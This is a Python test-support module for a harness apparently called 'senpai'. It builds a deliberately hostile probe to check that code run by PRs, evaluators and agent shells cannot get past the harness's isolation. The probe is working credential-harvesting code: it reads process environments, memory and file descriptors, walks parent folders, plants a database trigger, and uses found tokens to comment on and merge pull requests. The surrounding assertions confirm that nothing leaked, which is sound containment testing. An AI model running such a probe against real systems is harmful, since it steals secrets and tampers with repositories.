"""A hostile target: code that tries everything a PR's code could try to get past senpai's walls.

`PROBE` is Python that a train command, a verifier step, the evaluator or an agent's shell runs
(`probe.py`). It tries, and never crashes whatever it meets:

- **credentials**: its own environment; every process's /proc/<pid>/environ and cmdline; each
  ancestor's memory (/proc/<pid>/mem, its first readable mapping) and open files (/proc/<pid>/fd);
  the files of every folder above its work dir (the job's spec and log, senpai's state, the
  forge's data, the tracker's runs, the holdout), and the home folder's dotfiles;
- **senpai's state**: to plant a trigger in every `wrapper.sqlite` it finds, and to write next to
  the ledger snapshot and the base mirror;
- **the forge**: every token-shaped string it found is tried as a forge token (`GET /user`), and,
  if one works, used to comment on and merge PRs 1..5.

It prints one line, `hostile-probe: <json>`: where it ran (`role`), the token-shaped strings it
found (`tokens`), the paths it could read outside its own folders (`read`), what it wrote of
senpai's (`wrote`), and what the forge let it do (`forge`). A test greps every log for those lines
and for the bot's token; `HOSTILE_TRAIN` runs the probe, then the digits example's own training, so
the research loop goes on around it.
"""

import json
import os
from pathlib import Path

from senpai.config.harness import load_harness

BOT = "ghp_hostileTargetCannotSeeThis0123456789"  # the bot's token, as GitHub shapes one

PROBE = r"""
import json, os, re, sqlite3, sys, urllib.request


def probe(role):
    SHAPE = re.compile(rb"[A-Za-z0-9][A-Za-z0-9_.:\-]{15,}")
    ME = os.path.realpath(os.getcwd())
    out = {"role": role, "uid": os.geteuid(), "cwd": ME, "artifact": bool(os.environ.get("SENPAI_ARTIFACT_DIR")),
           "tokens": set(), "read": [], "wrote": [], "forge": []}
    names = ("HOME", "TMPDIR", "WANDB_DIR", "SENPAI_ARTIFACT_DIR")
    OWN = [ME, *(os.path.realpath(os.environ[n]) for n in names if os.environ.get(n))]

    def grab(data):
        for t in SHAPE.findall(data[:4_000_000]):
            if len(out["tokens"]) < 20_000:
                out["tokens"].add(t.decode(errors="replace")[:120])

    def mine(path):
        return any(path == o or path.startswith(o + os.sep) for o in OWN)

    def read(path, limit=2_000_000):
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            return None
        try:
            return os.read(fd, limit)
        except OSError:
            return None
        finally:
            os.close(fd)

    grab("\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        for what in ("environ", "cmdline"):
            data = read(f"/proc/{pid}/{what}")
            if data:
                grab(data)
                if what == "environ" and int(pid) != os.getpid() and os.path.exists(f"/proc/{pid}"):
                    out["read"].append(f"/proc/{pid}/environ")
    ppid, chain = os.getppid(), []
    while ppid > 1 and len(chain) < 30:
        chain.append(ppid)
        try:
            ppid = int(open(f"/proc/{ppid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    for pid in chain:
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
                for line in maps[:200]:
                    lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                    if "r" not in line.split()[1]:
                        continue
                    try:
                        mem.seek(lo)
                        grab(mem.read(min(hi - lo, 1_000_000)))
                        out["read"].append(f"/proc/{pid}/mem")
                    except OSError:
                        continue
        except OSError:
            pass
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                data = read(f"/proc/{pid}/fd/{fd}", 200_000)
                if data:
                    grab(data)
                    out["read"].append(f"/proc/{pid}/fd/{fd}")
        except OSError:
            pass
    seen, dirs = set(), []
    d = ME
    while d != "/" and len(dirs) < 12:
        d = os.path.dirname(d)
        dirs.append(d)
    dirs.append(os.path.expanduser("~" + (os.environ.get("USER") or "root")))
    for top in dirs:
        for base, subdirs, files in os.walk(top):
            if base in ("/proc", "/sys", "/dev", "/run"):
                subdirs[:] = []
                continue
            if mine(os.path.realpath(base)) or len(seen) > 3000 or base.count(os.sep) - top.count(os.sep) > 5:
                subdirs[:] = []
                continue
            subdirs[:] = [s for s in subdirs if s not in (".git", "node_modules", "site-packages", ".venv", ".pyenv")]
            for name in files:
                path = os.path.join(base, name)
                if path in seen:
                    continue
                seen.add(path)
                data = read(path, 500_000)
                if data is not None:
                    grab(data)
                    out["read"].append(path)
                if name == "wrapper.sqlite":
                    try:
                        db = sqlite3.connect(path, timeout=1)
                        db.execute(
                            "CREATE TRIGGER IF NOT EXISTS pwn AFTER INSERT ON events "
                            "BEGIN UPDATE events SET first_seen = 'not a time'; END"
                        )
                        db.commit()
                        out["wrote"].append(path)
                    except Exception:
                        pass
                if name in ("ledger-snapshot.json", "HEAD") or name.endswith(".sqlite3"):
                    try:
                        with open(os.path.join(base, "pwned"), "w") as f:
                            f.write("x")
                        out["wrote"].append(os.path.join(base, "pwned"))
                    except OSError:
                        pass
    remote = os.environ.get("WANDB_GIT_REMOTE_URL", "")
    m = re.match(r"(https?://[^/]+)/git/([^/]+/[^/.]+)", remote)
    if m:
        api, repo = m.groups()
        for token in sorted(out["tokens"]):
            try:
                req = urllib.request.Request(f"{api}/user", headers={"Authorization": f"token {token}"})
                who = json.load(urllib.request.urlopen(req, timeout=2)).get("login")
            except Exception:
                continue
            out["forge"].append(f"user {who}")
            for pr in range(1, 6):
                for method, path, body in (("POST", f"/repos/{repo}/issues/{pr}/comments", {"body": "pwned"}),
                                           ("PUT", f"/repos/{repo}/pulls/{pr}/merge", {"merge_method": "merge"})):
                    try:
                        headers = {"Authorization": f"token {token}", "Content-Type": "application/json"}
                        data = json.dumps(body).encode()
                        req = urllib.request.Request(f"{api}{path}", data=data, method=method, headers=headers)
                        urllib.request.urlopen(req, timeout=2)
                        out["forge"].append(f"{method} {path}")
                    except Exception:
                        pass
    out["tokens"] = sorted(out["tokens"])
    out["read"] = sorted(set(p for p in out["read"] if not mine(os.path.realpath(p))))[:500]
    print("hostile-probe:", json.dumps(out), flush=True)
"""

PROBE_SCRIPT = PROBE + "\nprobe(sys.argv[1])\n"

HOSTILE_TRAIN = "python probe.py train && python train_real.py"
MAIN = 'if __name__ == "__main__":'


def hostile_evaluator(evaluator_py: str) -> str:
    """The example's evaluator, probing (as `score`) before its own main runs: the evaluator is the target's too."""
    head, sep, tail = evaluator_py.rpartition(MAIN)
    assert sep, "the evaluator has no main block"
    return f"{head}{PROBE}\n\n{MAIN}\n    probe('score'){tail}"


PROBE_LINE = "hostile-probe: "


def hostile_files(train_py: str, evaluator_py: str) -> dict[str, str]:
    """The files that make the digits example hostile: the probe, its own training moved aside
    (`train_real.py`, run after the probe), and an evaluator that probes before it scores."""
    return {"probe.py": PROBE_SCRIPT, "train_real.py": train_py, "eval/evaluate.py": hostile_evaluator(evaluator_py)}


def probes(root) -> list[dict]:
    """Every `hostile-probe:` report in the files under `root` (logs of jobs, train and score steps)."""
    found = []
    for path in Path(root).rglob("*"):
        if not path.is_file() or path.is_symlink() or path.stat().st_size > 64 * 1024**2:
            continue
        for line in path.read_bytes().decode(errors="replace").splitlines():
            if PROBE_LINE in line:
                try:
                    found.append(json.loads(line.split(PROBE_LINE, 1)[1]))
                except ValueError:
                    continue
    return found


def as_non_root(argv: list[str]) -> list[str]:
    """`argv` as a non-root user: itself when the tests are not root, else in a new user namespace
    as uid and gid 1000, every capability gone (files keep their owners; /proc, signals and ptrace
    see an ordinary user)."""
    if os.geteuid() != 0:
        return argv
    return ["unshare", "--user", "--map-user=1000", "--map-group=1000", "--", *argv]


def senpai_folders(config: Path, forge_data: Path) -> dict[str, Path]:
    """The folders of senpai's that no probe may read (the score step: but the holdout), by name."""
    cfg = load_harness(config)
    return {
        "state": Path(cfg.state_dir), "tracker": Path(cfg.tracker.dir), "jobs": Path(cfg.fleet.dir),
        "holdout": Path(cfg.fleet.holdout_dir), "forge": forge_data, "home": Path.home(),
    }  # fmt: skip


def given_to_score(path: str, folder: str) -> bool:
    """What the score step is given to read: the sealed holdout, the artifact's copy
    (`scored-<side>-<seed>/`) and the python shim (`shim-*/`), all under senpai's folders."""
    return folder == "holdout" or (folder == "jobs" and any(p.startswith(("scored-", "shim-")) for p in Path(path).parts))


def step_kind(p: dict) -> str:
    """Where a probe ran: student train, verifier train, score, or the role it was given (an agent's shell)."""
    return ("verifier train" if p["artifact"] else "student train") if p["role"] == "train" else p["role"]


def assert_got_nothing(found: list[dict], folders: dict[str, Path], keys: list[str]) -> None:
    """No probe in `found` ran as root, found one of `keys`, wrote anything of senpai's, got the forge
    to do anything, or read one of senpai's `folders` (`senpai_folders`) beyond what it was given."""
    assert all(p["uid"] != 0 for p in found)
    for p in found:
        where, tokens = f"{p['role']} probe in {p['cwd']}", "\n".join(p["tokens"])
        assert not [k for k in keys if k in tokens], f"{where} found a key"
        assert p["wrote"] == [] and p["forge"] == [], where
        breaches = [
            (name, path) for path in p["read"] for name, folder in folders.items()
            if Path(path).is_relative_to(folder) and not (p["role"] == "score" and given_to_score(path, name))
        ]  # fmt: skip
        assert breaches == [], f"{where} read senpai's {breaches[:5]}"
